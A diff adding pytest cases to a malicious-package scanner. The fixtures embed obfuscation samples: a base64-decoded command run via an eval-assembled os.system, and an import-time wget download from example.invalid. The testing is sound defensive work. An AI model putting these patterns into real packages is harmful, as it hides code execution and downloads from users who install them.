@@ -1828,6 +1828,51 @@ def test_remote_control_fires(tmp_path: Path, scanner: Scanner) -> None:
     assert_fires(result, "remote-control", Verdict.MALICIOUS, severity=Severity.CRITICAL)
 
 
+def test_decode_exec_fires_through_a_function_spelled_in_pieces(tmp_path: Path, scanner: Scanner) -> None:
+    """`run = eval("o" + "s.sys" + "tem")` hides os.system; what it runs was decoded from base64."""
+    body = (
+        f"command = base64.b64decode({b64(INERT_CODE)!r}).decode()\n"
+        "run = eval('o' + 's.sy' + 'stem')\n"
+        "run(command)\n"
+    )
+    result = scan(write_sdist(tmp_path, setup_py=setup_py(body, "import base64\n")), scanner)
+    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_decode_exec_benign_eval_of_a_spelled_setting(tmp_path: Path, scanner: Scanner) -> None:
+    code = "import settings\n\nDEBUG = eval('settings.' + 'DEBUG')\nLEVEL = eval('1 + 2')\n"
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/conf.py": code}), scanner)
+    assert_quiet(result, "obfuscated-exec", not_verdict=Verdict.SUSPICIOUS)
+
+
+def test_install_process_fires_for_wget_with_options_before_the_address(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    code = (
+        "import os\n\ndef install():\n"
+        "    os.system('wget -O ~/.cache/x.py https://example.invalid/x.txt')\n\n"
+    )
+    files = {
+        f"{DEFAULT_NAME}/__init__.py": "from .installer import install\ninstall()\n",
+        f"{DEFAULT_NAME}/installer.py": code,
+    }
+    result = scan(write_sdist(tmp_path, files), scanner)
+    assert_fires(result, "install-process", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_install_process_benign_wget_helper_only_called(tmp_path: Path, scanner: Scanner) -> None:
+    code = (
+        "import os\n\ndef fetch(dest):\n"
+        "    os.system('wget -O ' + dest + ' https://example.invalid/data.csv')\n"
+    )
+    files = {
+        f"{DEFAULT_NAME}/__init__.py": "from .installer import fetch\n",
+        f"{DEFAULT_NAME}/installer.py": code,
+    }
+    result = scan(write_sdist(tmp_path, files), scanner)
+    assert_quiet(result, "install-process", not_verdict=Verdict.MALICIOUS)
+
+
 POSITIVE_TESTS: dict[str, str] = {
     "startup-hook": "test_startup_hook_fires",
     "startup-hook-dangerous": "test_startup_hook_dangerous_fires",
